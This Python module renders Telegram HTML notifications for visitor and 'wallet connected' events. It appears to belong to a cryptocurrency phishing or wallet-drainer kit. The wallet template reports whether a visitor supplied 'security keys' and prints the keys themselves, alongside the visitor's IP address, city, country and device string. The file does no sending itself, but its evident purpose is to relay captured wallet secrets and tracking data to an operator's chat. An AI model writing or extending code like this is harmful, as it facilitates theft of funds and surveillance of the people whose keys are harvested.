"""Message rendering — turn an activity record into Telegram HTML text.

Pure functions with no I/O, kept apart from the HTTP client so the output
can be checked without a network.
"""

from __future__ import annotations

import html
from collections.abc import Callable
from datetime import UTC, datetime, tzinfo

from activity_notifier.errors.notifier_errors import UnknownActivityKindError
from activity_notifier.notifications.activity import ActivityKind, ActivityRecord

UNKNOWN = "Unknown"
HIDDEN = "Hidden"
NOT_PROVIDED = "Not provided"

_DISPLAY_FORMAT = "%Y-%m-%d %H:%M:%S %Z"


def format_timestamp(value: str, tz: tzinfo | None = None) -> str:
    """Render an ISO-8601 timestamp for display.

    Naive timestamps are taken as UTC.  The result is converted to *tz*, or
    to the host's local zone when *tz* is ``None``.  Unparseable input is
    returned unchanged, as is a value that cannot be shifted into *tz*.
    """
    try:
        parsed = datetime.fromisoformat(value)
    except (TypeError, ValueError):
        return str(value)
    if parsed.tzinfo is None:
        parsed = parsed.replace(tzinfo=UTC)
    try:
        return parsed.astimezone(tz).strftime(_DISPLAY_FORMAT).strip()
    except (OverflowError, ValueError, OSError):
        # zone shift past datetime.min/max
        return str(value)


def _esc(value: object, default: str) -> str:
    return html.escape(str(value)) if value else default


def _location_lines(activity: ActivityRecord) -> list[str]:
    loc = activity.location
    city = _esc(loc.city if loc else None, UNKNOWN)
    country = _esc(loc.country if loc else None, UNKNOWN)
    ip = _esc(loc.ip if loc else None, HIDDEN)
    return [
        f"🌍 Location: {city}, {country}",
        f"📱 Device: {_esc(activity.user_agent, UNKNOWN)}",
        f"🔗 IP: {ip}",
    ]


def _render_visit(activity: ActivityRecord, tz: tzinfo | None) -> list[str]:
    return [
        "🌐 <b>New Platform Visit</b>",
        "",
        f"⏰ Time: {html.escape(format_timestamp(activity.timestamp, tz))}",
        *_location_lines(activity),
    ]


def _render_wallet_connect(activity: ActivityRecord, tz: tzinfo | None) -> list[str]:
    keys_flag = "✅ Provided" if activity.security_keys_provided else "❌ Not provided"
    return [
        "💰 <b>Wallet Connected</b>",
        "",
        f"⏰ Time: {html.escape(format_timestamp(activity.timestamp, tz))}",
        f"👛 Wallet: {_esc(activity.wallet_type, UNKNOWN)}",
        f"🔐 Security Keys: {keys_flag}",
        f"📝 Keys: {_esc(activity.security_keys, NOT_PROVIDED)}",
        *_location_lines(activity),
    ]


_TEMPLATES: dict[ActivityKind, Callable[[ActivityRecord, tzinfo | None], list[str]]] = {
    ActivityKind.VISIT: _render_visit,
    ActivityKind.WALLET_CONNECT: _render_wallet_connect,
}


def render(activity: ActivityRecord, tz: tzinfo | None = None) -> str:
    """Render the notification text for *activity*.

    Args:
        activity: The event to describe.
        tz: Display zone for the timestamp, host local time when ``None``.

    Raises:
        UnknownActivityKindError: If no template exists for ``activity.kind``.
    """
    template = _TEMPLATES.get(activity.kind)
    if template is None:
        raise UnknownActivityKindError(activity.kind)
    return "\n".join(template(activity, tz))
